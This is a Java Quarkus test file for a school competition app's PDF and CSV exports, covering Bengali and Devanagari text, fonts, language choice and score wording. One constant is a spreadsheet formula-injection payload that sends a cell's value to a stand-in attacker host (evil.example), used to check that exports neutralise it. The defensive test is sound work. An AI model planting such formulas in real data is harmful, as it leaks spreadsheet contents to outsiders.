package org.juryroom.publishing;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.rendering.PDFRenderer;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.Test;
import org.juryroom.support.RealStack;
import org.juryroom.web.Fixtures;
import org.juryroom.web.WebSession;

import javax.imageio.ImageIO;
import java.awt.image.BufferedImage;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.Normalizer;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Exports with Bengali and Devanagari titles and school names, through the HTTP endpoints: the PDF's text
 * extracted by PDFBox equals the input (NFC, whatever form it came in), the CSV starts with a UTF-8 BOM and keeps
 * the Bengali, both follow the requested language, and the PDF says what its numbers and times are.
 */
@QuarkusTest
class ExportTest {

    /** Typed in NFD (ো as ে + া): the export must read back as the NFC form. */
    static final String BENGALI_TITLE = Normalizer.normalize("অনন্যার পোস্টার: প্রিয়া আর ঋত্বিক", Normalizer.Form.NFD);
    static final String DEVANAGARI_TITLE = "ज्ञानेश और प्रिया की कहानी";
    /** A title a spreadsheet would run as a formula, had the export not made it text. */
    static final String FORMULA_TITLE = "=HYPERLINK(\"https://evil.example/?d=\"&C2,\"open\")";
    static String bengaliSchool;
    static String devanagariSchool;
    static long cid;
    static String competition;

    /** Made once, by the first test (the app's port is known only inside a test). */
    static synchronized void competitionWithIndicNames() {
        if (competition != null) {
            return;
        }
        String tag = UUID.randomUUID().toString().substring(0, 6).toUpperCase();
        String title = "শিশু সুরক্ষা প্রতিযোগিতা " + tag;
        cid = Fixtures.openCompetition(title, 2);
        bengaliSchool = "ঋত্বিক স্মৃতি বিদ্যালয় " + tag;
        devanagariSchool = "क्षत्रिय ज्ञानपीठ विद्यालय " + tag;
        Fixtures.Account bn = Fixtures.school(bengaliSchool);
        Fixtures.Account hi = Fixtures.school(devanagariSchool);
        long a = Fixtures.submittedEntry(bn, cid, "poster", BENGALI_TITLE, List.of("Lina"), "posters/poster-01.jpg");
        long b = Fixtures.submittedEntry(hi, cid, "poster", DEVANAGARI_TITLE, List.of("Mira"), "posters/poster-02.jpg");
        long f = Fixtures.submittedEntry(hi, cid, "poster", FORMULA_TITLE, List.of("Tara"), "posters/poster-01.jpg");
        Fixtures.Account juror = Fixtures.juror(Fixtures.unique("Juror"));
        Fixtures.jury(cid, List.of(juror));
        Fixtures.transition(cid, "JUDGING");
        Fixtures.assign(cid, 1);
        Fixtures.score(juror, a, 9, 8, 7);
        Fixtures.score(juror, b, 7, 6, 9);
        Fixtures.score(juror, f, 3, 3, 3);
        Fixtures.freeze(cid);
        competition = title;
    }

    static byte[] get(String path, String acceptLanguage) {
        competitionWithIndicNames();
        var request = Fixtures.organiser();
        if (acceptLanguage != null) {
            request = request.header("Accept-Language", acceptLanguage);
        }
        Response r = request.get("/api/competitions/" + cid + "/exports/" + path);
        assertThat(r.statusCode()).as(path).isEqualTo(200);
        return r.asByteArray();
    }

    static String pdfText(byte[] pdf) throws Exception {
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            return nfc(new PDFTextStripper().getText(doc));
        }
    }

    static String nfc(String s) {
        return Normalizer.normalize(s, Normalizer.Form.NFC);
    }

    @Test
    void pdfExportsReadBackBengaliAndDevanagariAsTyped() throws Exception {
        for (String kind : List.of("shortlist.pdf", "ranking.pdf")) {
            String text = pdfText(get(kind, null));
            assertThat(text).as(kind).contains(nfc(BENGALI_TITLE), DEVANAGARI_TITLE, bengaliSchool, devanagariSchool,
                    competition);
        }
    }

    @Test
    void pdfIsEmbeddedAndShaped() throws Exception {
        byte[] pdf = get("ranking.pdf?lang=bn", null);
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            var fonts = new java.util.ArrayList<String>();
            for (var name : doc.getPage(0).getResources().getFontNames()) {
                var font = doc.getPage(0).getResources().getFont(name);
                fonts.add(font.getName());
                assertThat(font.isEmbedded()).as(font.getName()).isTrue();
            }
            assertThat(fonts).anyMatch(f -> f.endsWith("NotoSansBengali-Regular"))
                    .anyMatch(f -> f.endsWith("NotoSansDevanagari-Regular")).anyMatch(f -> f.endsWith("NotoSans-Bold"));
            BufferedImage page = new PDFRenderer(doc).renderImageWithDPI(0, 150);
            Path shots = Path.of("target", "screenshots");
            Files.createDirectories(shots);
            ImageIO.write(page, "png", shots.resolve("pdf-indic.png").toFile());
            assertThat(page.getWidth()).isGreaterThan(page.getHeight()); // A4 landscape
        }
    }

    @Test
    void csvHasABomAndKeepsBengali() throws Exception {
        byte[] csv = get("ranking.csv", null);
        assertThat(Arrays.copyOf(csv, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8))).getRecords();
        assertThat(records).extracting(r -> nfc(r.get("Title"))).contains(nfc(BENGALI_TITLE), DEVANAGARI_TITLE);
        assertThat(records).extracting(r -> r.get("School")).contains(bengaliSchool, devanagariSchool);
        assertThat(records).extracting(r -> r.get("Score")).allMatch(s -> s.matches("\\d+\\.\\d{2}"));
        assertThat(Arrays.copyOf(get("shortlist.csv", null), 3)).containsExactly(0xEF, 0xBB, 0xBF);
    }

    @Test
    void aCellASpreadsheetWouldRunAsAFormulaIsText() throws Exception {
        byte[] csv = get("ranking.csv", null);
        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8))).getRecords();
        assertThat(records).extracting(r -> r.get("Title")).contains("'" + FORMULA_TITLE)
                .noneMatch(t -> t.startsWith("="));
    }

    @Test
    void exportsFollowTheRequestedLanguage() throws Exception {
        String bn = nfc(new String(get("ranking.csv?lang=bn", "hi"), StandardCharsets.UTF_8));
        assertThat(bn).startsWith(nfc("\uFEFFস্থান,কোড,শিরোনাম,বিদ্যালয়,বিভাগ,নম্বর,মূল গড়"));
        String hi = new String(get("shortlist.csv", "hi-IN,en;q=0.5"), StandardCharsets.UTF_8);
        assertThat(hi).startsWith("\uFEFFस्थान,कोड,शीर्षक,विद्यालय,श्रेणी,अंक,माध्यिका,निर्णायक");
        assertThat(new String(get("shortlist.csv", "fr, de;q=0.8"), StandardCharsets.UTF_8))
                .startsWith("\uFEFFRank,Code,Title,School,Category,Score,Median,Jurors");

        String pdf = pdfText(get("ranking.pdf?lang=bn", null));
        assertThat(pdf).contains(competition + " · মেধাক্রম", "পৃষ্ঠা 1 (মোট 1)", "নম্বর মেলানোর পদ্ধতি", nfc("ভারতীয়"));
        assertThat(pdfText(get("shortlist.pdf", "hi"))).contains(competition + " · चयन सूची").contains("भारतीय");
    }

    /** An open round with nothing assigned reads as on the rounds page, not "Open: 0 of 0 done.". */
    @Test
    void anOpenRoundWithNothingAssignedReadsAsNotStarted() throws Exception {
        long empty = Fixtures.openCompetition(Fixtures.unique("Nothing assigned"), 2);
        Fixtures.jury(empty, List.of(Fixtures.juror(Fixtures.unique("Juror"))));
        Fixtures.transition(empty, "JUDGING");
        Fixtures.assign(empty, 1); // no entry: the round opens with nothing to assign
        for (List<String> said : List.of(List.of("en", "Open: Not started: nothing assigned yet."),
                List.of("hi", "खुला: शुरू नहीं हुआ: अभी कुछ भी आवंटित नहीं।"))) {
            Response r = Fixtures.organiser().get("/api/competitions/" + empty + "/exports/ranking.pdf?lang=" + said.get(0));
            assertThat(r.statusCode()).isEqualTo(200);
            assertThat(pdfText(r.asByteArray()).replaceAll("\\s+", " ")).as(said.get(0)).contains(said.get(1))
                    .doesNotContain("0 of 0").doesNotContain("0 में से 0");
        }
    }

    @Test
    void pdfSaysWhatItsNumbersAndTimesAre() throws Exception {
        String shortlist = pdfText(get("shortlist.pdf", null));
        String ranking = pdfText(get("ranking.pdf", null));
        for (String text : List.of(shortlist, ranking)) {
            String oneLine = text.replaceAll("\\s+", " ");
            assertThat(oneLine).doesNotContain("Z_SCORE", "RAW_MEAN", "String.compareTo")
                    .contains("fair for harsh and lenient jurors (z-score)")
                    .contains("not held between 0 and 100")
                    .contains("India Standard Time");
            assertThat(oneLine).doesNotContainPattern("\\d\\.\\d{3}").containsPattern("\\d+\\.\\d{2}");
            assertThat(oneLine).doesNotContainPattern("\\d{4}-\\d{2}-\\d{2}T"); // no raw ISO/UTC timestamps
        }
        // The ranking page explains the score with the same words.
        String page = WebSession.signIn("organiser", RealStack.ORGANISER_PASSWORD)
                .get("/organiser/competitions/" + cid + "/ranking").asString();
        assertThat(page.replaceAll("\\s+", " ")).contains("not held between 0 and 100");
    }
    /**
     * The shortlist PDF names the size that was sealed, as the shortlist page does: a competition asking for the
     * top 3 that ranked one entry sealed one, and its PDF must not speak of a top 3 a reader would look for.
     */
    @Test
    void theShortlistPdfNamesTheSizeThatWasSealed() throws Exception {
        long one = Fixtures.openCompetition(Fixtures.unique("Sealed Size"), 3);
        Fixtures.Account school = Fixtures.school(Fixtures.unique("Sealed Size School"));
        long entry = Fixtures.submittedEntry(school, one, "poster", "Safe at home", List.of("Lina"),
                "posters/poster-01.jpg");
        Fixtures.Account juror = Fixtures.juror(Fixtures.unique("Juror"));
        Fixtures.jury(one, List.of(juror));
        Fixtures.transition(one, "JUDGING");
        Fixtures.assign(one, 1);
        Fixtures.score(juror, entry, 8, 8, 8);
        Fixtures.freeze(one);
        String en = pdf(one, "en").replaceAll("\\s+", " ");
        assertThat(en).contains("Shortlist of the top 1 entry,").doesNotContain("top 3");
        String hi = pdf(one, "hi").replaceAll("\\s+", " ");
        assertThat(hi).contains("शीर्ष 1 प्रविष्टि की चयन सूची").doesNotContain("शीर्ष 3");
        assertThat(pdf(one, "bn").replaceAll("\\s+", " ")).contains(nfc("সেরা 1টি কাজের বাছাই তালিকা"));
    }

    private static String pdf(long competitionId, String lang) throws Exception {
        Response r = Fixtures.organiser().get("/api/competitions/" + competitionId + "/exports/shortlist.pdf?lang="
                + lang);
        assertThat(r.statusCode()).isEqualTo(200);
        return pdfText(r.asByteArray());
    }
}
